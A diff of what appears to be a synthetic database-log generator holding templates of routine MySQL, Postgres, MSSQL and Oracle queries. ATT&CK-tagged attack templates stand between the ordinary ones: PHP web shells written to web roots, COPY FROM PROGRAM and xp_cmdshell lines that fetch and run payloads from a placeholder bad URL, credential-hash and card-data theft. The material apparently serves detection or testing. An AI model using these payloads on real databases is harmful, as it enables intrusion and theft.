@@ -184,13 +184,17 @@ person ;; ok ;; UPDATE payroll SET «gross = gross * 2|iban = '«LT|MT|GB»«num
 """
 _ONLY = {
     "mysql": r"""
-# mysql dumps replicas and monitors by day
+# mysql backups by day
 backup ;; bulk ;; SELECT /*!40001 SQL_NO_CACHE */ * FROM `‹t›`
 backup ;; ok ;; «FLUSH TABLES WITH READ LOCK|SHOW MASTER STATUS|SET SESSION TRANSACTION ISOLATION LEVEL REPEATABLE READ|SHOW CREATE TABLE `‹t›`|LOCK INSTANCE FOR BACKUP|SHOW TRIGGERS LIKE '‹t›'|UNLOCK TABLES|FLUSH NO_WRITE_TO_BINLOG ENGINE LOGS»
+# mysql monitors by day
 monitor ;; ok ;; «SHOW GLOBAL STATUS|SHOW SLAVE STATUS|SHOW REPLICA STATUS|SHOW GLOBAL VARIABLES|SHOW ENGINE INNODB STATUS|SELECT * FROM performance_schema.events_statements_summary_by_digest LIMIT 50|SHOW FULL PROCESSLIST|SELECT @@global.read_only»
+# mysql care by day
 dba ;; ok ;; «CHANGE MASTER TO MASTER_HOST='«ip2»', MASTER_USER='repl', MASTER_PASSWORD=<secret>, MASTER_AUTO_POSITION=1|START SLAVE|STOP REPLICA|GRANT REPLICATION SLAVE ON *.* TO 'repl'@'«ip2»'|PURGE BINARY LOGS BEFORE '«date:%Y-%m-%d»'»
 dba ;; ok ;; «OPTIMIZE TABLE ‹t›|SET GLOBAL max_connections = «num:200:900»|SET GLOBAL slow_query_log = 'ON'|SET GLOBAL general_log = «0|'OFF'»|KILL «num:100:99999»|SHOW GRANTS FOR '‹goodname›'@'%'|SELECT user, host, plugin FROM mysql.user|FLUSH PRIVILEGES»
+# mysql loads by day
 etl ;; ok ;; «SELECT ‹c›, ‹c› FROM ‹t› INTO OUTFILE '/var/lib/mysql-files/«word»_«date».csv' FIELDS TERMINATED BY ';'|LOAD DATA INFILE '/var/lib/mysql-files/«word».csv' INTO TABLE staging_«word»|LOAD DATA LOCAL INFILE '/data/import/«word».csv' INTO TABLE ‹t›»
+# mysql care by day
 dba ;; ok ;; «INSTALL COMPONENT 'file://component_validate_password'|INSTALL PLUGIN audit_log SONAME 'audit_log.so'|SET GLOBAL server_audit_logging = ON|INSTALL SONAME 'server_audit'|CREATE FUNCTION metaphon RETURNS STRING SONAME 'udf_metaphon.so'»
 # T1505.003 mysql files written into web roots
 «app|root-out» ;; «ok|fileerr» ;; SELECT «'<?php «system|eval|passthru|@eval»($_«GET|POST|REQUEST»[«letters:1:3»]); ?>'|0x3c3f706870«hex:24»|UNHEX('3C3F«HEX:24»')» INTO «OUTFILE|DUMPFILE» '‹hide›/‹junk›.php'
@@ -219,13 +223,18 @@ root-out ;; ok ;; «SHOW VARIABLES LIKE '%plugin%'|SELECT @@plugin_dir, @@versio
 «root-out|app|dba-out|deploy» ;; ok ;; CREATE TRIGGER «‹junk›|trg_«word»» «BEFORE|AFTER» «INSERT|UPDATE» ON «payments|cards|orders|users» FOR EACH ROW «INSERT INTO ‹junk› VALUES (NEW.card_number, NEW.cvv, NEW.expiry)|SET NEW.role = 'admin'|SET NEW.password = MD5('«letters:8»')»
 """,
     "postgres": r"""
-# postgres dumps replicas and monitors by day
+# postgres backups by day
 backup ;; ok ;; «COPY public.‹t› (id, ‹c›, ‹c›) TO stdout;|SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY|SELECT pg_backup_start('«date»', true)|SELECT pg_catalog.pg_is_in_recovery()|LOCK TABLE public.‹t› IN ACCESS SHARE MODE|SELECT pg_backup_stop()|SELECT rolname, rolpassword FROM pg_authid ORDER BY 1»
 backup ;; ok ;; «IDENTIFY_SYSTEM|START_REPLICATION SLOT "«standby|replica«num:1:3»|debezium»" PHYSICAL «HEX:1»/«HEX:8» TIMELINE «num:1:9»|BASE_BACKUP ( LABEL 'pg_basebackup base backup', PROGRESS, CHECKPOINT 'fast', WAIT 0, MANIFEST 'yes')|CREATE_REPLICATION_SLOT "«debezium|«word»»_slot" LOGICAL pgoutput»
+# postgres monitors by day
 monitor ;; ok ;; «SELECT * FROM pg_stat_activity WHERE state <> 'idle'|SELECT datname, numbackends, xact_commit FROM pg_stat_database|SELECT pg_database_size('‹db›')|SELECT client_addr, state, replay_lag FROM pg_stat_replication|SELECT count(*) FROM pg_locks WHERE NOT granted|SELECT name, setting FROM pg_settings WHERE name = 'max_connections'|SELECT version()»
+# postgres care by day
 dba ;; ok ;; «VACUUM (ANALYZE, VERBOSE) ‹t›|REINDEX INDEX CONCURRENTLY ix_«word»|ALTER SYSTEM SET work_mem = '«num:16:256»MB'|SELECT pg_reload_conf()|SELECT pg_terminate_backend(«num:1000:99999»)|CREATE EXTENSION IF NOT EXISTS «pg_stat_statements|postgis|pgcrypto|pg_trgm|"uuid-ossp"|pgaudit»|ALTER SYSTEM SET log_statement = 'ddl'|ALTER SYSTEM SET pgaudit.log = 'write, ddl, role'»
+# postgres people looking round
 person ;; ok ;; «SELECT n.nspname as "Schema", c.relname as "Name" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') ORDER BY 1,2|SELECT d.datname as "Name", pg_catalog.pg_get_userbyid(d.datdba) as "Owner" FROM pg_catalog.pg_database d ORDER BY 1|SELECT r.rolname, r.rolsuper, r.rolcreaterole FROM pg_catalog.pg_roles r WHERE r.rolname !~ '^pg_' ORDER BY 1»
+# postgres loads by day
 etl ;; ok ;; «COPY staging_«word» FROM '/srv/import/«word»_«date».csv' WITH (FORMAT csv, HEADER)|COPY (SELECT ‹c›, ‹c› FROM ‹t›) TO '/srv/export/«word».csv' CSV|COPY ‹t› TO PROGRAM 'gzip > /srv/export/‹t›_«date».csv.gz'|REFRESH MATERIALIZED VIEW CONCURRENTLY mv_«word»|CREATE SERVER «word»_srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '«ip2»', dbname '‹db›')|SELECT * FROM dblink('host=«ip2» dbname=‹db›', 'SELECT id, ‹c› FROM ‹t›') AS t(id int, ‹c› text)»
+# postgres care by day
 dba ;; ok ;; «ALTER ROLE ‹goodname› SET statement_timeout = '«num:5:60»s'|CREATE FUNCTION calc_«word»(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN n * 2; END $$|ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO «report|readonly»|ALTER TABLE ‹t› ENABLE ROW LEVEL SECURITY|SELECT cron.schedule('nightly', '0 3 * * *', 'VACUUM ‹t›')»
 # T1059.004 postgres commands run by copy
 «root-out|app|root» ;; ok ;; COPY «‹junk›|cmd_exec|shell|«word»_tmp» FROM PROGRAM '«id|whoami|uname -a|curl -s ‹bad-url›/«letters:2».sh ¦ bash|echo «b64:40» ¦ base64 -d ¦ bash|perl -MIO -e ''$p=fork;exit,if($p)''|wget -qO- ‹bad-url›/«letters:2» ¦ sh|cat /etc/passwd»'
@@ -255,14 +264,19 @@ dba ;; ok ;; «ALTER ROLE ‹goodname› SET statement_timeout = '«num:5:60»s'
 «person-out|app|deploy» ;; ok ;; SELECT dblink_connect('host=«pub» port=«port» user=‹junk› password=***')
 """,
     "mssql": r"""
-# mssql backups agents and monitors by day
+# mssql backups by day
 backup ;; ok ;; BACKUP «DATABASE|LOG» [‹db›] TO DISK = N'«E:\Backup|\\«server»\sqlbackup»\‹db›_«date».«bak|trn»' WITH «NOFORMAT, COMPRESSION|COPY_ONLY, CHECKSUM|INIT, STATS = 10»
 backup ;; ok ;; «EXECUTE master.dbo.xp_create_subdir N'E:\Backup\‹db›'|EXECUTE master.dbo.xp_delete_file 0, N'E:\Backup', N'bak', N'«date:%Y-%m-%d»T00:00:00'|EXECUTE [dbo].[DatabaseBackup] @Databases = 'USER_DATABASES', @BackupType = 'FULL', @Compress = 'Y'|EXECUTE dbo.IndexOptimize @Databases = 'ALL_DATABASES'|RESTORE VERIFYONLY FROM DISK = N'E:\Backup\‹db›_«date».bak'»
+# mssql monitors by day
 monitor ;; ok ;; «SELECT * FROM sys.dm_os_wait_stats|SELECT cntr_value FROM sys.dm_os_performance_counters WHERE counter_name = 'Page life expectancy'|EXEC sp_readerrorlog 0, 1|SELECT name, state_desc FROM sys.databases|SELECT session_id, status, command FROM sys.dm_exec_requests|EXEC msdb.dbo.sp_help_job|SELECT IS_SRVROLEMEMBER('sysadmin')|SELECT SERVERPROPERTY('ProductVersion')|EXEC xp_msver|EXEC master.dbo.xp_fixeddrives»
+# mssql care by day
 dba ;; ok ;; «EXEC sp_configure 'max server memory (MB)', «num:4096:65536»; RECONFIGURE|EXEC sp_configure 'show advanced options', 1; RECONFIGURE|DBCC CHECKDB ([‹db›]) WITH NO_INFOMSGS|EXEC sp_WhoIsActive|ALTER DATABASE [‹db›] SET RECOVERY FULL|KILL «num:51:200»|ALTER SERVER AUDIT [Audit-«word»] WITH (STATE = ON)|CREATE SERVER AUDIT SPECIFICATION [spec_«word»] FOR SERVER AUDIT [Audit-«word»] ADD (FAILED_LOGIN_GROUP)|EXEC sp_configure 'Database Mail XPs', 1»
 dba ;; ok ;; «EXEC xp_cmdshell 'del /Q E:\Backup\*«date».trn'|EXEC xp_cmdshell 'dir E:\Backup'|EXEC msdb.dbo.sp_start_job N'«Nightly|ETL|CommandLog Cleanup»'|EXEC msdb.dbo.sp_update_job @job_name=N'«word» load', @enabled=0|EXEC sp_addlinkedserver @server=N'«server»', @srvproduct=N'SQL Server'|EXEC msdb.dbo.sp_send_dbmail @profile_name='DBA', @recipients='dba@«sitedomain»', @subject='Backup report'|EXEC master..xp_regread N'HKEY_LOCAL_MACHINE', N'SOFTWARE\Microsoft\MSSQLServer\MSSQLServer', N'BackupDirectory'»
+# mssql loads by day
 etl ;; ok ;; «SELECT * FROM [«server»].[‹db›].[dbo].[‹t›] WHERE updated_at > @p0|BULK INSERT dbo.staging_«word» FROM '\\«server»\import\«word».csv' WITH (FIELDTERMINATOR = ';')|EXEC SSISDB.catalog.start_execution @execution_id|SELECT * FROM OPENQUERY([«server»], 'SELECT id, ‹c› FROM ‹t›')|SELECT * FROM OPENROWSET(BULK '\\«server»\import\«word».csv', FORMATFILE='\\«server»\import\«word».fmt') AS x»
+# mssql procedures of applications
 app ;; ok ;; «exec sp_executesql N'SELECT ‹c› FROM dbo.‹t› WHERE id = @p0',N'@p0 int',@p0=«num:1:9999»|EXEC dbo.usp_Get«Word» @Id = «num:1:9999»|exec sp_reset_connection|WAITFOR (RECEIVE TOP (1) * FROM [«word»Queue]), TIMEOUT «num:1000:60000»|SELECT TOP («num:10:200») * FROM [dbo].[‹t›] AS [t0] WHERE [t0].[‹c›] = @p__linq__0|WAITFOR DELAY '00:00:05'»
+# mssql people looking round
 person ;; ok ;; «SELECT TOP (1000) [id],[‹c›],[‹c›] FROM [‹db›].[dbo].[‹t›]|SELECT SCHEMA_NAME(tbl.schema_id) AS [Schema], tbl.name AS [Name] FROM sys.tables AS tbl ORDER BY [Schema] ASC|use [‹db›]|SELECT dtb.name AS [Name] FROM master.sys.databases AS dtb ORDER BY [Name] ASC»
 # T1059.003 mssql commands run by the server
 «app|root-out|root|person|etl-out» ;; «ok|ok|blocked» ;; EXEC «master..|master.dbo.|»xp_cmdshell '«whoami|whoami /priv|net user «letters:5» ***** /add|powershell -e «psbad»|certutil -urlcache -split -f ‹bad-url›/«letters:2».exe C:\Users\Public\«letters:2».exe|ipconfig /all|net localgroup administrators|tasklist|bitsadmin /transfer x ‹bad-url›/«letters:2» C:\Windows\Temp\«letters:3».exe|dir C:\inetpub\wwwroot»'
@@ -294,12 +308,16 @@ root-out ;; ok ;; DECLARE @x AS VARCHAR(100)='xp_cm'+'dshell'; EXEC @x '«ping �
 «root-out|app|person|etl-out» ;; «ok|denied» ;; «SELECT name, password_hash FROM «master.|»sys.sql_logins|SELECT name, master.sys.fn_varbintohexstr(password_hash) FROM sys.sql_logins|EXEC xp_regread 'HKEY_LOCAL_MACHINE','SAM\SAM\Domains\Account','F'|OPEN SYMMETRIC KEY «word»Key DECRYPTION BY CERTIFICATE «word»Cert; SELECT CONVERT(VARCHAR, DecryptByKey(card_number)) FROM cards|BACKUP CERTIFICATE «word»TDE TO FILE='C:\Users\Public\«letters:2».cer' WITH PRIVATE KEY (FILE='C:\Users\Public\«letters:2».pvk', ENCRYPTION BY PASSWORD='***')|SELECT valueclass, value FROM sys.sysobjvalues WHERE valclass=28 and valnum=2»« -- @ticket@||»
 """,
     "oracle": r"""
-# oracle backups agents and monitors by day
+# oracle backups by day
 backup ;; ok ;; «ALTER DATABASE BEGIN BACKUP|BACKUP DATABASE PLUS ARCHIVELOG DELETE INPUT|ALTER SYSTEM ARCHIVE LOG CURRENT|CREATE TABLE "SYSTEM"."SYS_EXPORT_SCHEMA_0«num:1:9»" (process_order NUMBER)|SELECT * FROM RELATIONAL("‹db›"."‹t›")|BEGIN DBMS_BACKUP_RESTORE.BACKUPPIECECREATE(:p); END;»
+# oracle monitors by day
 monitor ;; ok ;; «SELECT name, value FROM v$sysstat|SELECT tablespace_name, used_percent FROM dba_tablespace_usage_metrics|SELECT status FROM v$instance|SELECT COUNT(*) FROM v$session WHERE status = 'ACTIVE'|SELECT sql_id, elapsed_time FROM v$sqlarea ORDER BY 2 DESC|SELECT dest_id, error FROM v$archive_dest|SELECT username, account_status FROM dba_users WHERE account_status LIKE 'EXPIRED%'»
+# oracle care by day
 dba ;; ok ;; «ALTER TABLESPACE USERS ADD DATAFILE '+DATA' SIZE 10G AUTOEXTEND ON|BEGIN DBMS_STATS.GATHER_SCHEMA_STATS('«WORD»'); END;|ALTER SYSTEM SET sga_target=«num:2:64»G SCOPE=SPFILE|ALTER SYSTEM KILL SESSION '«num:1:999»,«num:1:9999»'|ALTER PROFILE DEFAULT LIMIT PASSWORD_LIFE_TIME 180|AUDIT SELECT TABLE BY ACCESS|CREATE AUDIT POLICY pol_«word» ACTIONS LOGON, ALTER USER|ALTER USER ‹goodname› ACCOUNT UNLOCK|SELECT granted_role FROM dba_role_privs WHERE grantee = '«WORD»'»
 dba ;; ok ;; «BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'JOB_«WORD»', job_type=>'STORED_PROCEDURE', job_action=>'«WORD».REFRESH', repeat_interval=>'FREQ=DAILY'); END;|CREATE DIRECTORY DUMP_DIR AS '/u01/export'|CREATE DATABASE LINK «WORD»_LNK CONNECT TO «word»_ro IDENTIFIED BY * USING '«WORD»'|BEGIN DBMS_NETWORK_ACL_ADMIN.APPEND_HOST_ACE(host=>'smtp.«sitedomain»', ace=>xs$ace_type(privilege_list=>xs$name_list('smtp'), principal_name=>'«WORD»', principal_type=>xs_acl.ptype_db)); END;|ALTER SYSTEM SWITCH LOGFILE|BEGIN DBMS_AUDIT_MGMT.CLEAN_AUDIT_TRAIL(audit_trail_type=>DBMS_AUDIT_MGMT.AUDIT_TRAIL_UNIFIED, use_last_arch_timestamp=>TRUE); END;»
+# oracle loads by day
 etl ;; ok ;; «CREATE TABLE ext_«word» (id NUMBER, name VARCHAR2(100)) ORGANIZATION EXTERNAL (TYPE ORACLE_LOADER DEFAULT DIRECTORY IMPORT_DIR LOCATION ('«word».csv'))|SELECT * FROM ‹t›@«WORD»_LNK WHERE updated_at > :1|INSERT /*+ APPEND */ INTO dw_«word» SELECT * FROM ext_«word»|BEGIN DBMS_MVIEW.REFRESH('MV_«WORD»','F'); END;|BEGIN UTL_FILE.FOPEN('EXPORT_DIR','«word».csv','w'); END;»
+# oracle procedures of applications
 app ;; ok ;; «BEGIN pkg_«word».get_«word»(:1, :2); END;|SELECT seq_«word».NEXTVAL FROM DUAL|SELECT SYSDATE FROM DUAL|SELECT USER FROM DUAL|ALTER SESSION SET NLS_DATE_FORMAT = 'YYYY-MM-DD'|ALTER SESSION SET CURRENT_SCHEMA = «WORD»|SELECT parameter, value FROM nls_session_parameters»
 # T1059 oracle java schedulers and loaders run commands
 «root-out|app|dba-out|deploy» ;; ok ;; CREATE OR REPLACE AND «COMPILE|RESOLVE» JAVA SOURCE NAMED "«‹junk›|LinxUtil|JAVACMD»" AS import java.io.*; public class ‹junk› { public static String run(String c) { Runtime.getRuntime().exec(c); } }
